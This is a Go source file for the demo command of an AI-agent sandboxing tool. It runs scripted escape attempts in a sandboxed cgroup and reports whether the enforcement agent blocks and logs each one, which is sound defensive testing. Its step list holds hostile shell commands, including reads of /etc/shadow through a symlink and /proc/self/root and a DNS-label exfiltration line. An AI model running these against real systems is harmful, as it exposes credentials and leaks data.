package main

import (
	"bytes"
	"context"
	"errors"
	"os/exec"
	"syscall"

	"golang.org/x/sys/unix"

	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/watcherhq/watcher/internal/cgroupfs"
	"github.com/watcherhq/watcher/internal/control"
	"github.com/watcherhq/watcher/internal/limits"
	"github.com/watcherhq/watcher/internal/textesc"

	"github.com/watcherhq/watcher/internal/agent"
	"github.com/watcherhq/watcher/internal/audit"
	"github.com/watcherhq/watcher/internal/enforce"
	"github.com/watcherhq/watcher/internal/launch"
	"github.com/watcherhq/watcher/internal/policy"
)

func init() {
	register("demo", command{Summary: "a private agent on the default policy, a sandboxed shell trying forbidden things", Run: runDemo})
}

// demoStep is one thing the sandboxed "agent" tries. The operation is the
// script's last command, run with exec, so the step's process is the one
// that tries it and its fate (exit status or signal) is the step's outcome.
type demoStep struct {
	what   string
	script string
	// exits names the meaning of exit codes that are not a refusal
	// (getent's 2: the name has no answer).
	exits map[int]string
}

var demoSteps = []demoStep{
	{what: "write in the workspace (allowed)", script: `echo notes > "$WS/notes.txt" && exec cat "$WS/notes.txt"`},
	{what: "list the workspace (allowed)", script: `exec ls "$WS"`},
	{what: "read /etc/shadow", script: `exec cat /etc/shadow >/dev/null`},
	{what: "read /etc/shadow through a symlink", script: `ln -sf /etc/shadow "$WS/innocent" && exec cat "$WS/innocent" >/dev/null`},
	{what: "read /etc/shadow through /proc/self/root", script: `exec cat /proc/self/root/etc/shadow >/dev/null`},
	{what: "mount a tmpfs", script: `mkdir -p "$WS/mnt" && exec mount -t tmpfs none "$WS/mnt"`},
	{what: "write /proc/sys/vm/swappiness", script: `exec cat /proc/sys/vm/swappiness > /proc/sys/vm/swappiness`},
	{what: "raw socket", script: `exec python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); print("opened")'`},
	{what: "resolve a name off the allowlist", script: `exec getent hosts example.com`, exits: map[int]string{2: "no answer"}},
	{what: "exfiltrate through a DNS label", script: `exec getent hosts dGhpcyBpcyBhIHNlY3JldCBpbmZvCg.example.com`, exits: map[int]string{2: "no answer"}},
}

// demoExecSteps are the steps the demo repeats through watcher exec: the
// forbidden file, mount and sysctl operations.
var demoExecSteps = demoSteps[2:7]

func runDemo(ctx context.Context, args []string, stdout, stderr io.Writer) error {
	fs := flag.NewFlagSet("demo", flag.ContinueOnError)
	keep := fs.String("ledger", "", "write the demo ledger here and keep it (default: a temporary directory, removed)")
	if err := parseFlags(fs, args, stderr, `Usage: watcher demo [flags]

Starts a private agent on the default policy (restricted preset), runs a
sandboxed shell that tries a series of forbidden operations, prints what
happened to each and the events the agent recorded, then verifies the
ledger. Needs root. Leaves nothing behind (pins, cgroups, sockets).`); err != nil {
		return helpOK(err)
	}
	tmp, err := os.MkdirTemp("", "watcher-demo-")
	if err != nil {
		return err
	}
	defer os.RemoveAll(tmp)
	ws := filepath.Join(tmp, "workspace")
	os.MkdirAll(ws, 0o755)
	pol := policy.Default()
	id := strconv.Itoa(os.Getpid())
	pol.Agent.LedgerDir = filepath.Join(tmp, "ledger")
	if *keep != "" {
		pol.Agent.LedgerDir = *keep
	}
	pol.Agent.SocketDir = filepath.Join(tmp, "run")
	pol.Agent.PinDir = filepath.Join(filepath.Dir(pol.Agent.PinDir), "watcher-demo-"+id)
	pol.Agent.MetricsAddr = ""
	pol.Agent.DNS.Listen = "127.0.0.1:0"
	pol.Agent.ExecCgroup = "/watcher-demo-" + id
	pol.Sandboxes[0].Select.Cgroups = []string{"/watcher-demo-" + id}
	pol.Sandboxes[0].Workspace = []string{ws}
	// The demo is a scripted escape attempt: let the escape watch raise its
	// alert without freezing the sandbox, so every step still runs.
	pol.Sandboxes[0].Escape.Action = policy.EscapeAlert
	sbRoot, err := cgroupfs.Abs(pol.Sandboxes[0].Select.Cgroups[0])
	if err != nil {
		return err
	}
	// Whatever happens, leave no pins or cgroups behind.
	defer enforce.Unpin(pol.Agent.PinDir)
	defer func() {
		if err := limits.RemoveTree(sbRoot); err != nil { // with the v1 twins limits made
			fmt.Fprintln(os.Stderr, "watcher demo:", textesc.String(err.Error()))
		}
	}()

	// The agent runs its canary (the self-test) at start. Its probes'
	// events are kept apart from the steps', and its result is printed on
	// a line of its own before the first step.
	rec := &demoRecorder{canaryDone: make(chan audit.Event, 1)}
	a, err := agent.Start(ctx, agent.Options{Policy: pol, RecordExecDenials: true, OnEvent: rec.observe})
	if err != nil {
		return fmt.Errorf("start the demo agent: %w", err)
	}
	stopped := false
	stop := func() {
		if !stopped {
			stopped = true
			a.Stop()
			enforce.Unpin(pol.Agent.PinDir)
		}
	}
	defer stop()
	fmt.Fprintf(stdout, "Enforcement on this kernel (rules per layer; `watcher status` lists them): %s\n", control.LayerSummary(a.Layers()))
	fmt.Fprintf(stdout, "\nSandbox %q (preset restricted), workspace %s, DNS proxy %s\n", pol.Sandboxes[0].Name, ws, a.DNSAddr())
	if pol.Sandboxes[0].Canary.Enabled {
		fmt.Fprintln(stdout, demoCanaryLine(ctx, rec.canaryDone, demoCanaryWait))
	}
	fmt.Fprintln(stdout)

	plan := a.Plan()
	fmt.Fprintln(stdout, "A process placed in the sandbox cgroup (as a container runtime would): kernel hooks only")
	for i, step := range demoSteps {
		err := rec.step(stdout, i+1, step, func(out io.Writer) (demoOutcome, error) {
			return runInCgroup(ctx, filepath.Join(sbRoot, fmt.Sprintf("step-%d", i+1)), ws, step.script, out)
		})
		if err != nil {
			return err
		}
	}
	fmt.Fprintln(stdout, "\nThe same through watcher exec: seccomp and Landlock apply first, then the kernel hooks")
	for i, step := range demoExecSteps {
		err := rec.step(stdout, i+1, step, func(out io.Writer) (demoOutcome, error) {
			v, err := launch.Run(ctx, launch.Config{
				Path: "/bin/sh", Args: []string{"-c", step.script},
				Env: []string{"PATH=/usr/sbin:/usr/bin:/sbin:/bin", "WS=" + ws},
				Dir: ws, Stdout: out, Stderr: out,
				Sandbox: pol.Sandboxes[0].Name, CgroupParent: pol.Sandboxes[0].Select.Cgroups[0],
				Label: fmt.Sprintf("demo-%d", i+1), Restrictions: plan.Launch[pol.Sandboxes[0].Name],
				Timeouts: launch.Timeouts{Kill: 20 * time.Second},
			})
			return demoOutcome{exit: v.ExitCode, signal: v.Signal}, err
		})
		if err != nil {
			return err
		}
	}
	stop()
	fmt.Fprintf(stdout, "\nLedger %s:\n", pol.Agent.LedgerDir)
	return run(ctx, []string{"verify", pol.Agent.LedgerDir}, stdout, stderr)
}

// demoCanaryWait bounds the wait for the start-up canary (18 probes take
// a few seconds; a loaded host more).
const demoCanaryWait = 2 * time.Minute

// demoRecorder collects the agent's events: the canary's apart (they are
// the self-test's, not the steps'), the rest for the step that caused them.
type demoRecorder struct {
	mu         sync.Mutex
	events     []audit.Event
	canaryDone chan audit.Event // the record of the first canary run
}

func (r *demoRecorder) observe(e audit.Event) {
	if e.Kind == audit.KindExec || e.Kind == audit.KindExit {
		return
	}
	if e.Sandbox.Name == "" || e.Kind == audit.KindPosture {
		// The agent's own records (file rules rewritten after changes
		// elsewhere on the host) and posture readings of the sandbox
		// cgroup: no step caused them. The ledger has them.
		return
	}
	if check := e.Sandbox.Labels[audit.LabelCanary]; check != "" {
		if e.Kind == audit.KindCanary && check == "run" {
			select {
			case r.canaryDone <- e:
			default: // a later run: the demo reports the first
			}
		}
		return
	}
	r.mu.Lock()
	r.events = append(r.events, e)
	r.mu.Unlock()
}

// demoCanaryLine waits for the start-up canary's record and says what it
// found, in one line.
func demoCanaryLine(ctx context.Context, done <-chan audit.Event, wait time.Duration) string {
	const head = "Start-up canary (the agent's self-test, probes in their own cgroups): "
	t := time.NewTimer(wait)
	defer t.Stop()
	select {
	case e := <-done:
		if e.Canary == nil {
			return head + textesc.String(e.Message)
		}
		var failed []string
		for _, c := range e.Canary.Checks {
			if !c.OK {
				failed = append(failed, c.Name)
			}
		}
		if len(failed) == 0 {
			return fmt.Sprintf("%s%d of %d checks passed (`watcher check` lists them)", head, len(e.Canary.Checks), len(e.Canary.Checks))
		}
		return fmt.Sprintf("%s%d of %d checks FAILED: %s", head, len(failed), len(e.Canary.Checks), textesc.String(strings.Join(failed, ", ")))
	case <-ctx.Done():
		return head + "interrupted"
	case <-t.C:
		return head + "no result after " + wait.String() + "; its events are left out below"
	}
}

// demoOutcome is how a step's process ended.
type demoOutcome struct {
	exit   int
	signal syscall.Signal // non-zero: it died of this signal
}

// describe says how the step ended and what it printed last: "killed by
// SIGKILL", "exit 1: cat: /etc/shadow: Permission denied", "exit 0: notes".
func (o demoOutcome) describe(step demoStep, output string) string {
	last := textesc.String(lastLine(output))
	if o.signal != 0 {
		s := "killed by " + unix.SignalName(o.signal)
		if last != "" {
			s += ": " + last
		}
		return s
	}
	s := fmt.Sprintf("exit %d", o.exit)
	if m := step.exits[o.exit]; m != "" {
		s += " (" + m + ")"
	}
	if last != "" {
		s += ": " + last
	}
	return s
}

// step runs one step, prints its outcome and then the events it caused,
// in the order they happened.
func (r *demoRecorder) step(stdout io.Writer, n int, step demoStep, do func(out io.Writer) (demoOutcome, error)) error {
	r.mu.Lock()
	before := len(r.events)
	r.mu.Unlock()
	var out bytes.Buffer
	outcome, err := do(&out)
	if err != nil {
		return fmt.Errorf("step %q: %w", step.what, err)
	}
	time.Sleep(200 * time.Millisecond) // the reader polls the rings every 50 ms
	fmt.Fprintf(stdout, "%2d. %-42s %s\n", n, step.what, outcome.describe(step, out.String()))
	r.mu.Lock()
	caused := append([]audit.Event(nil), r.events[before:]...)
	r.mu.Unlock()
	// The agent's own records (a mount undone) can arrive before the
	// kernel's event that caused them.
	sort.SliceStable(caused, func(i, j int) bool { return caused[i].Time.Before(caused[j].Time) })
	for i := range caused {
		fmt.Fprintf(stdout, "      %s\n", compactLine(&caused[i], false))
	}
	return nil
}

// runInCgroup runs a shell script in a fresh cgroup below the sandbox root,
// with no restrictions of watcher's own: only the kernel hooks apply.
func runInCgroup(ctx context.Context, cg, ws, script string, out io.Writer) (demoOutcome, error) {
	if err := cgroupfs.Create(cg); err != nil {
		return demoOutcome{}, err
	}
	defer cgroupfs.Remove(cg)
	ctx, cancel := context.WithTimeout(ctx, 20*time.Second)
	defer cancel()
	fd, err := os.Open(cg)
	if err != nil {
		return demoOutcome{}, err
	}
	defer fd.Close()
	cmd := exec.CommandContext(ctx, "/bin/sh", "-c", script)
	cmd.Env = []string{"PATH=/usr/sbin:/usr/bin:/sbin:/bin", "WS=" + ws}
	cmd.Dir, cmd.Stdout, cmd.Stderr = ws, out, out
	cmd.SysProcAttr = &syscall.SysProcAttr{UseCgroupFD: true, CgroupFD: int(fd.Fd())}
	cmd.WaitDelay = 5 * time.Second
	err = cmd.Run()
	var ee *exec.ExitError
	switch {
	case err == nil:
		return demoOutcome{}, nil
	case errors.As(err, &ee):
		if st, ok := ee.Sys().(syscall.WaitStatus); ok && st.Signaled() {
			return demoOutcome{exit: -1, signal: st.Signal()}, nil
		}
		return demoOutcome{exit: ee.ExitCode()}, nil
	}
	return demoOutcome{}, err
}

// lastLine is the last unindented line of a step's output: the error
// message (python's traceback ends with it; mount's hint about dmesg is
// indented), cut at 70 bytes.
func lastLine(s string) string {
	lines := strings.Split(strings.TrimRight(s, "\n"), "\n")
	s = lines[len(lines)-1]
	for i := len(lines) - 1; i >= 0; i-- {
		if l := lines[i]; l != "" && l[0] != ' ' && l[0] != '\t' {
			s = l
			break
		}
	}
	if len(s) > 70 {
		s = s[:70] + "..."
	}
	return s
}
